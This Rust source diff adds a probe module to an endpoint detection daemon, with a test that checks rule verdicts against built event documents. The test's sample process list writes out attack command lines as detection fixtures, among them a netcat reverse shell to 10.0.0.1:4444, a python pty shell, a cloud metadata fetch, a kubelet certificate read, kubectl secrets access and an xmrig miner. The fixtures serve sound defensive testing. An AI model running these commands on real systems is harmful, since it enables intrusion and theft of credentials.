@@ -1,0 +1,359 @@
+//! What the rule index needs to know of an event before its document is built: the
+//! process's and its parent's name, executable and args, and the event's action and type,
+//! read from the process-table snapshot exactly as [`crate::ecs::DocBuilder`] renders them.
+//! With it the daemon skips the document (the most expensive per-event step) for every
+//! event no rule is keyed on, whichever of these fields the rules are keyed on.
+
+use crate::ecs::EcsDocument;
+use crate::ecs::field::{Document, FieldId, FieldValue, Schema};
+use crate::process::{ExecImage, Snapshot};
+use crate::rules::Probe;
+
+/// Which part of the snapshot a field reads.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Source {
+    Name(Who),
+    Executable(Who),
+    Args(Who),
+    Action,
+    Type,
+    Category,
+    Kind,
+    /// `process.entry_leader.entry_meta.type`.
+    EntryType,
+    /// The same in every document of one builder (`host.*`): read from its base document.
+    Base,
+    /// A field the documents never carry (`file.*` on process events).
+    Never,
+}
+
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Who {
+    Subject = 0,
+    Parent = 1,
+}
+
+/// The probe's fields, resolved once in the rules' schema.
+#[derive(Debug)]
+pub struct ProbeFields {
+    /// By field id.
+    fields: Vec<Option<Source>>,
+    /// Rendered-args buffers, reused from event to event (their strings keep their
+    /// capacity): no allocation per probe once warm.
+    pool: std::cell::RefCell<Vec<Vec<String>>>,
+    /// Host and agent only ([`crate::ecs::DocBuilder::base`]).
+    base: EcsDocument,
+}
+
+impl ProbeFields {
+    /// `base` is the builder's base document: the fields every document copies from it.
+    pub fn new(schema: &dyn Schema, base: EcsDocument) -> Self {
+        use Source::*;
+        use Who::*;
+        let named = [
+            ("process.name", Name(Subject)),
+            ("process.executable", Executable(Subject)),
+            ("process.args", Args(Subject)),
+            ("process.parent.name", Name(Parent)),
+            ("process.parent.executable", Executable(Parent)),
+            ("process.parent.args", Args(Parent)),
+            ("event.action", Action),
+            ("event.type", Type),
+            ("event.category", Category),
+            ("event.kind", Kind),
+            ("process.entry_leader.entry_meta.type", EntryType),
+            ("host.os.type", Base),
+            ("host.os.name", Base),
+            ("host.os.family", Base),
+            ("host.os.platform", Base),
+            ("host.architecture", Base),
+        ];
+        let never = crate::ecs::UNPOPULATED_FIELDS
+            .iter()
+            .map(|(p, _)| (*p, Never));
+        let mut fields = Vec::new();
+        for (id, src) in named
+            .into_iter()
+            .chain(never)
+            .filter_map(|(p, s)| schema.resolve(p).map(|d| (d.id.0 as usize, s)))
+        {
+            if fields.len() <= id {
+                fields.resize(id + 1, None);
+            }
+            fields[id] = Some(src);
+        }
+        ProbeFields {
+            fields,
+            pool: Default::default(),
+            base,
+        }
+    }
+
+    /// A probe of one snapshot.
+    pub fn probe<'a>(&'a self, snap: &'a Snapshot) -> SnapshotProbe<'a> {
+        SnapshotProbe {
+            fields: self,
+            snap,
+            args: Default::default(),
+        }
+    }
+}
+
+/// One snapshot seen through [`ProbeFields`]. `process.args` is rendered (once, on first
+/// use) into strings; the rest is borrowed.
+pub struct SnapshotProbe<'a> {
+    fields: &'a ProbeFields,
+    snap: &'a Snapshot,
+    args: [std::cell::OnceCell<Option<Vec<String>>>; 2],
+}
+
+impl Drop for SnapshotProbe<'_> {
+    fn drop(&mut self) {
+        let mut pool = self.fields.pool.borrow_mut();
+        for a in &mut self.args {
+            if let Some(Some(v)) = a.take() {
+                pool.push(v);
+            }
+        }
+    }
+}
+
+/// `args` rendered into `buf` (reusing its strings); false when one is not UTF-8.
+fn render(args: &[Vec<u8>], buf: &mut Vec<String>) -> bool {
+    buf.truncate(args.len());
+    for (i, a) in args.iter().enumerate() {
+        let Ok(s) = std::str::from_utf8(a) else {
+            return false;
+        };
+        match buf.get_mut(i) {
+            Some(b) => {
+                b.clear();
+                b.push_str(s);
+            }
+            None => buf.push(s.to_owned()),
+        }
+    }
+    true
+}
+
+/// A single string field the builder leaves out when empty; `None` when not UTF-8 (the
+/// document holds a lossy rendering the probe does not compute).
+fn single(b: &[u8]) -> Option<FieldValue<'_>> {
+    match std::str::from_utf8(b).ok()? {
+        "" => Some(FieldValue::Missing),
+        s => Some(FieldValue::Str(s)),
+    }
+}
+
+impl Probe for SnapshotProbe<'_> {
+    fn field(&self, field: FieldId) -> Option<FieldValue<'_>> {
+        let source = (*self.fields.fields.get(field.0 as usize)?)?;
+        let image = |who: Who| -> Option<&ExecImage> {
+            match who {
+                Who::Subject => Some(&self.snap.subject.image),
+                Who::Parent => self.snap.parent.as_ref().map(|p| &*p.image),
+            }
+        };
+        let (action, ty) = crate::ecs::action_and_type(self.snap.kind);
+        match source {
+            Source::Never => Some(FieldValue::Missing),
+            Source::Action => Some(FieldValue::Str(action)),
+            Source::Type => Some(FieldValue::Str(ty)),
+            Source::Category => Some(FieldValue::Str("process")),
+            Source::Kind => Some(FieldValue::Str("event")),
+            Source::EntryType => Some(
+                self.snap
+                    .entry_leader
+                    .as_ref()
+                    .map_or(FieldValue::Missing, |e| {
+                        FieldValue::Str(e.entry_type.as_str())
+                    }),
+            ),
+            Source::Base => Some(self.fields.base.field(field)),
+            Source::Name(w) => image(w).map_or(Some(FieldValue::Missing), |i| single(&i.name)),
+            Source::Executable(w) => {
+                image(w).map_or(Some(FieldValue::Missing), |i| single(&i.executable))
+            }
+            Source::Args(w) => {
+                let Some(i) = image(w) else {
+                    return Some(FieldValue::Missing);
+                };
+                let slot = &self.args[w as usize];
+                let args = slot.get_or_init(|| {
+                    let mut buf = self.fields.pool.borrow_mut().pop().unwrap_or_default();
+                    if render(&i.args, &mut buf) {
+                        Some(buf)
+                    } else {
+                        self.fields.pool.borrow_mut().push(buf);
+                        None
+                    }
+                });
+                args.as_deref().map(FieldValue::Strs)
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::ecs::DocBuilder;
+    use crate::event::{EventKind, ProcessEvent};
+    use crate::host::{AgentInfo, HostInfo};
+    use crate::process::{IdContext, ProcessTable, TableConfig};
+    use crate::rules::{Rule, RuleSet};
+
+    /// Fork, exec (of `argv`, in a container or not) and exit of one process under `parent`.
+    fn life(
+        tgid: u32,
+        parent: u32,
+        t: u64,
+        exe: &[u8],
+        argv: &[&[u8]],
+        c: bool,
+    ) -> Vec<ProcessEvent> {
+        let base = ProcessEvent {
+            boot_ns: t,
+            pid: tgid,
+            tgid,
+            ppid: parent,
+            actor_pid: parent,
+            cgroup_id: if c { 77 } else { 1 },
+            cgroup_leaf: if c {
+                format!("docker-{:064x}.scope", 0xabcdef_u64).into_bytes()
+            } else {
+                b"session-1.scope".to_vec()
+            },
+            cgroup_parent: b"system.slice".to_vec(),
+            pid_ns_ino: if c { 4026532001 } else { 4026531836 },
+            mnt_ns_ino: if c { 4026532000 } else { 4026531841 },
+            ns_pid: tgid,
+            start_boot_ns: t,
+            ..Default::default()
+        };
+        let fork = ProcessEvent {
+            kind: Some(EventKind::Fork),
+            comm: b"bash".to_vec(),
+            exe_path: b"/usr/bin/bash".to_vec(),
+            ..base.clone()
+        };
+        let exec = ProcessEvent {
+            kind: Some(EventKind::Exec),
+            boot_ns: t + 1,
+            comm: argv[0].iter().take(15).copied().collect(),
+            filename: exe.to_vec(),
+            exe_path: exe.to_vec(),
+            argv: argv.iter().map(|a| a.to_vec()).collect(),
+            ..base.clone()
+        };
+        let exit = ProcessEvent {
+            kind: Some(EventKind::Exit),
+            boot_ns: t + 2,
+            exit_code: Some(0),
+            ..exec.clone()
+        };
+        vec![fork, exec, exit]
+    }
+
+    /// The probe's three-valued verdicts agree with the built document for every rule of
+    /// the corpus and the shipped rule, and `may_match_probe` is never false for an event
+    /// some rule matches: skipping the document never loses an alert.
+    #[test]
+    fn probe_agrees_with_the_document() {
+        let shared = crate::rules::testkit::shared_dir();
+        let shipped = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../config/rules");
+        let (rules, _) = RuleSet::load(
+            &[shared.join("rules/elastic-cloud_defend"), shipped],
+            crate::ecs::schema(),
+        );
+        assert!(rules.len() > 10, "corpus loaded: {}", rules.len());
+        let host = HostInfo::collect(std::path::Path::new("/"));
+        let agent = AgentInfo::new(&host, None);
+        let mut docs = DocBuilder::new(&host, &agent);
+        let fields = ProbeFields::new(crate::ecs::schema(), docs.base());
+        let cfg = TableConfig {
+            proc_root: None,
+            enrich: None,
+            host_mnt_ns: Some(4026531841),
+            ..TableConfig::default()
+        };
+        let ids = IdContext {
+            boot_id: "6f1e2d3c-0000-4000-8000-00000000beef".into(),
+            pid_ns_ino: 4026531836,
+            ticks_per_sec: 100,
+        };
+        let mut table = ProcessTable::new(cfg, ids);
+        let programs: &[(&[u8], &[&[u8]])] = &[
+            (b"/usr/bin/ssh", &[b"ssh", b"-V"]),
+            (b"/usr/bin/ls", &[b"ls", b"-la", b"/tmp"]),
+            (b"/usr/bin/bash", &[b"bash", b"-c", b"id; whoami"]),
+            (b"/usr/bin/bash", &[b"bash", b"-i"]),
+            (b"/usr/bin/perl", &[b"perl", b"-e", b"print 1"]),
+            (
+                b"/usr/bin/python3",
+                &[b"python3", b"-c", b"import pty; pty.spawn('/bin/sh')"],
+            ),
+            (
+                b"/usr/bin/curl",
+                &[b"curl", b"http://169.254.169.254/latest/meta-data/"],
+            ),
+            (
+                b"/usr/bin/cat",
+                &[b"cat", b"/var/lib/kubelet/pki/kubelet.crt"],
+            ),
+            (
+                b"/usr/bin/nc",
+                &[b"nc", b"-e", b"/bin/sh", b"10.0.0.1", b"4444"],
+            ),
+            (b"/usr/bin/chmod", &[b"chmod", b"+x", b"/tmp/x"]),
+            (b"/usr/bin/kubectl", &[b"kubectl", b"get", b"secrets"]),
+            (b"/usr/bin/ss\xff", &[b"ss\xffh", b"\xff-V"]),
+            (b"/usr/bin/base64", &[b"base64", b"-d", b"payload"]),
+            (b"/tmp/.x/xmrig", &[b"xmrig", b"--donate-level", b"1"]),
+        ];
+        let mut events = Vec::new();
+        let mut t = 1_000_000_000u64;
+        // Two shells (host, container) and processes under them and under each other.
+        events.extend(life(100, 1, t, b"/usr/bin/bash", &[b"bash"], false));
+        events.extend(life(101, 1, t, b"/usr/bin/bash", &[b"bash"], true));
+        events.retain(|e| e.kind != Some(EventKind::Exit));
+        let mut tgid = 1000;
+        for (i, (exe, argv)) in programs.iter().enumerate() {
+            for c in [false, true] {
+                for parent in [100 + c as u32, 1000 + i as u32, 99_999] {
+                    t += 1_000_000;
+                    tgid += 1;
+                    events.extend(life(tgid, parent, t, exe, argv, c));
+                }
+            }
+        }
+        let (mut matched, mut skipped, mut known) = (0, 0, 0);
+        let mut out: Vec<&Rule> = Vec::new();
+        for ev in &events {
+            let Some(snap) = table.apply(ev) else {
+                continue;
+            };
+            let doc = docs.build(&snap, Some(ev));
+            let probe = fields.probe(&snap);
+            for r in rules.rules() {
+                if let Some(b) = r.compiled.root.eval3(&probe) {
+                    known += 1;
+                    assert_eq!(b, r.matches(&doc), "{} on {ev:?}", r.meta.name);
+                }
+            }
+            rules.matches(&doc, &mut out);
+            let may = rules.may_match_probe(&probe);
+            assert!(may || out.is_empty(), "skipped a match: {ev:?}");
+            matched += !out.is_empty() as usize;
+            skipped += !may as usize;
+        }
+        // The test means something: some events match, most of the rest are skipped.
+        assert!(matched >= 4, "matched {matched}");
+        assert!(
+            skipped * 2 > events.len(),
+            "skipped {skipped} of {}",
+            events.len()
+        );
+        assert!(known > 1000, "decided {known}");
+    }
+}
